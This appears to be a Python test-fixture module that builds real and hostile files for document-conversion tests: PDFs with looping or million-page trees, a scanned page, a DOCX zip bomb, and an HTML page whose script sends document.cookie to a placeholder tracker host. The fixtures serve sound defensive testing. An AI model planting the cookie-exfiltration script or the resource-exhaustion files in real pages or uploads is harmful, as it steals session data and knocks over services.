"""Small real and hostile files built in code for the document conversion tests: PPTX and XLSX made by
their libraries, hand-written PDFs (a text page, a page without a text layer, page trees that lie or
loop), zip bombs and an HTML page with scripts and trackers."""

from __future__ import annotations

import io
import zipfile

import openpyxl
from pptx import Presentation


def _pdf_file(objects: list[bytes]) -> bytes:
    """The PDF file of ``objects`` (numbered from 1, the first the catalog): header, bodies, the
    cross-reference table and the trailer."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def pdf(pages: list[str | None], *, kids: str | None = None, count: int | None = None) -> bytes:
    """A PDF with one page per entry of ``pages``: text drawn in Helvetica, or ``None`` for a page
    holding only an image-less drawing (no text layer, like a scan). ``kids``/``count`` replace the
    page tree's /Kids and /Count (hostile trees)."""
    objects: list[bytes] = []
    page_ids = [4 + 2 * i for i in range(len(pages))]
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    tree_kids = kids or " ".join(f"{i} 0 R" for i in page_ids)
    objects.append(
        f"<< /Type /Pages /Kids [{tree_kids}] /Count {count if count is not None else len(pages)} >>".encode()
    )
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for page_id, text in zip(page_ids, pages):
        if text is None:
            stream = b"0 0 1 rg 100 100 400 600 re f"
        else:
            lines = [
                line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
                for line in text.split("\n")
            ]
            body = " T* ".join(f"({line}) Tj" for line in lines)
            stream = f"BT /F1 11 Tf 14 TL 72 760 Td {body} ET".encode("latin-1")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {page_id + 1} 0 R "
            f"/Resources << /Font << /F1 3 0 R >> >> >>".encode()
        )
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    return _pdf_file(objects)


def looping_pdf() -> bytes:
    """A PDF whose page tree holds itself as a kid (a recursion loop)."""
    return pdf(["loop"], kids="2 0 R 4 0 R", count=2)


def million_page_pdf() -> bytes:
    """A PDF of a million real (blank) pages in a compact tree: 1000 intermediate nodes of 1000 pages
    each, every one a distinct object. About 100 MB would be needed to write them plainly; here the
    1000 leaves of each node are the same page object listed 1000 times, which readers count."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    node_ids = list(range(4, 4 + 1000))
    objects.append(
        f"<< /Type /Pages /Kids [{' '.join(f'{i} 0 R' for i in node_ids)}] /Count 1000000 >>".encode()
    )
    objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")
    leaves = " ".join("3 0 R" for _ in range(1000))
    for _ in node_ids:
        objects.append(f"<< /Type /Pages /Parent 2 0 R /Kids [{leaves}] /Count 1000 >>".encode())
    return _pdf_file(objects)


DEJAVU = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"  # Debian fonts-dejavu-core (CI installs it)


def scanned_pdf(lines: list[str]) -> bytes:
    """A one-page PDF holding only a picture of ``lines`` (an A4 scan at 200 dpi): no text layer."""
    from PIL import Image
    from PIL import ImageDraw
    from PIL import ImageFont

    image = Image.new("L", (1654, 2339), 255)
    draw = ImageDraw.Draw(image)
    font = ImageFont.truetype(DEJAVU, 44)
    for number, line in enumerate(lines):
        draw.text((150, 200 + 90 * number), line, fill=0, font=font)
    out = io.BytesIO()
    image.save(out, "PDF", resolution=200)
    return out.getvalue()


def pptx(slides: list[tuple[str, str]]) -> bytes:
    """A deck with one title-and-content slide per (title, body)."""
    deck = Presentation()
    for title, body in slides:
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = title
        slide.placeholders[1].text = body
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def xlsx(sheets: dict[str, list[list[object]]], *, origin: str = "B2") -> bytes:
    """A workbook with the given sheets, each table written from cell ``origin``."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    column = ord(origin[0]) - ord("A") + 1
    row0 = int(origin[1:])
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                sheet.cell(row=row0 + r, column=column + c, value=value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def docx_bomb(expanded_mib: int) -> bytes:
    """A zip that claims to be a DOCX ([Content_Types].xml, word/document.xml) with one entry of
    ``expanded_mib`` MiB of zeros: a few hundred kilobytes compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            block = b"\0" * (1024 * 1024)
            for _ in range(expanded_mib):
                entry.write(block)
    return out.getvalue()


HOSTILE_HTML = """<!doctype html><html><head><title>Pump manual</title>
<script>fetch('https://tracker.example/collect?u=' + document.cookie)</script>
<style>body { color: red }</style><link rel="stylesheet" href="https://cdn.example/x.css">
</head><body>
<h1>Pump manual</h1><p>Open the valve before starting the pump.</p>
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
<iframe src="https://ads.example/frame"></iframe>
<noscript><img src="https://tracker.example/noscript.gif"></noscript>
<table><tr><th>Part</th><th>Torque</th></tr><tr><td>Bolt M8</td><td>25 Nm</td></tr></table>
<script type="text/javascript">window.secretTrackerCall()</script>
</body></html>"""


__all__ = [
    "HOSTILE_HTML",
    "docx_bomb",
    "looping_pdf",
    "million_page_pdf",
    "pdf",
    "pptx",
    "scanned_pdf",
    "xlsx",
]
